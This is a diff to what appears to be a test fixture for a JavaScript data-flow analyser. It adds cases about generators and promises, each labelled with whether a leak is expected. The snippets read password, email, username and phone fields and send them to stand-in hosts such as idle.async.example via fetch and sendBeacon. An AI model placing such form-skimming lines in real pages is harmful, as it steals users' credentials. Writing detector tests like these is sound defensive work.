@@ -113,10 +113,12 @@ document.querySelector('input[type=file]').onchange = async (e) => {
 //# generator-never-advanced
 // no flow
 // why: the body of a generator runs only on next()
-function* leak() {
-  yield fetch('https://idle.async.example/i', { method: 'POST', body: document.querySelector('input[type=password]').value });
-}
-leak();
+(() => {
+  function* leak() {
+    yield fetch('https://idle.async.example/i', { method: 'POST', body: document.querySelector('input[type=password]').value });
+  }
+  leak();
+})();
 
 //# async-iife-error-swallowed
 // flow: search > after.async.example via fetch
@@ -132,3 +134,21 @@ leak();
 Promise.allSettled([Promise.resolve(document.querySelector('input[type=email]').value)]).then((rs) => {
   navigator.sendBeacon('https://settled.async.example/n', String(rs.filter((r) => r.status === 'fulfilled').length));
 });
+
+//# never-resolves
+// no flow
+// why: nothing ever settles the promise
+new Promise(() => { document.querySelector('input[type=email]').focus(); })
+  .then(() => fetch('https://never.async.example/n', { method: 'POST', body: document.querySelector('input[type=email]').value }));
+
+//# resolved-twice
+// no flow
+// why: the first resolve() counts, the second is without effect
+new Promise((ok) => { ok('first'); ok(document.querySelector('input[name=username]').value); })
+  .then((v) => fetch('https://twice.async.example/v?x=' + v));
+
+//# all-other-element
+// no flow
+// why: the second result is the answer of the server
+Promise.all([document.querySelector('input[type=tel]').value, fetch('https://all2.async.example/a').then((r) => r.status)])
+  .then(([, status]) => navigator.sendBeacon('https://all3.async.example/s', String(status)));
